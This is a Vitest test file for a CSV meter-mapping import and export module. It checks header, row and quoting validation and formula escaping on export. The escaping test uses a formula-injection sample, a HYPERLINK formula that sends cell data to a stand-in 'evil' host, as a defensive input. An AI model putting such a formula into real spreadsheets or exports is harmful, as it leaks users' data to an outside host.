import { describe, expect, it } from 'vitest';
import { planImport, renderExport, unescapeFormula } from '../../../../producers/mapping/core.js';
import { parseCsv } from '../../../../producers/http/csv.js';

const KNOWN = new Set(['c1/m1', 'c1/m2', 'c2/=1+1']);

describe('mapping import plan', () => {
  it('a good file gives its rows; an empty internal id removes a mapping', () => {
    const plan = planImport('connection_id,external_id,internal_meter_id\r\nc1,m1,INT-1\nc1,m2,\n', KNOWN);
    expect(plan.problems).toEqual([]);
    expect(plan.rows).toEqual([
      { line: 2, connection_id: 'c1', external_id: 'm1', internal_meter_id: 'INT-1' },
      { line: 3, connection_id: 'c1', external_id: 'm2', internal_meter_id: null },
    ]);
  });

  it('reports every unknown and duplicate id with its line', () => {
    const plan = planImport(
      'connection_id,external_id,internal_meter_id\nc1,m1,A\nc1,nope,B\nc1,m1,C\nc1,m2,A\n',
      KNOWN,
    );
    expect(plan.problems.map((p) => [p.line, p.kind])).toEqual([
      [3, 'unknown_meter'],
      [4, 'duplicate_meter'],
      [5, 'duplicate_internal_id'],
    ]);
  });

  it('refuses a wrong header, short rows and broken quoting', () => {
    expect(planImport('meter,internal\nx,y\n', KNOWN).problems[0]!.kind).toBe('header');
    expect(planImport('connection_id,external_id,internal_meter_id\nc1,m1\n', KNOWN).problems[0]!.kind).toBe(
      'syntax',
    );
    expect(
      planImport('connection_id,external_id,internal_meter_id\nc1,"m1,A\n', KNOWN).problems[0]!.kind,
    ).toBe('syntax');
    expect(planImport('connection_id,external_id,internal_meter_id\n,m1,A\n', KNOWN).problems[0]!.kind).toBe(
      'missing_value',
    );
  });

  it('accepts its own export back (apostrophe-escaped formulas are unescaped)', () => {
    const csv = renderExport([{ connection_id: 'c2', external_id: '=1+1', internal_meter_id: '@INT' }]);
    const plan = planImport(csv, KNOWN);
    expect(plan.problems).toEqual([]);
    expect(plan.rows[0]).toMatchObject({ external_id: '=1+1', internal_meter_id: '@INT' });
  });
});

describe('mapping export', () => {
  it('escapes cells beginning with = + - @ so spreadsheets do not run them, and quotes where needed', () => {
    const csv = renderExport([
      { connection_id: 'c1', external_id: '=HYPERLINK("http://evil/?d="&A1)', internal_meter_id: '+cmd' },
      { connection_id: 'c1', external_id: '-2+3', internal_meter_id: '@SUM(1)' },
      { connection_id: 'c1', external_id: 'plain, with comma', internal_meter_id: null },
    ]);
    const rows = parseCsv(csv);
    expect(rows.map((r) => r.external_id)).toEqual([
      "'-2+3",
      '\'=HYPERLINK("http://evil/?d="&A1)',
      'plain, with comma',
    ]);
    expect(rows.map((r) => r.internal_meter_id)).toEqual(["'@SUM(1)", "'+cmd", '']);
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@]/);
    expect(unescapeFormula("'=x")).toBe('=x');
    expect(unescapeFormula("'plain")).toBe("'plain");
  });
});
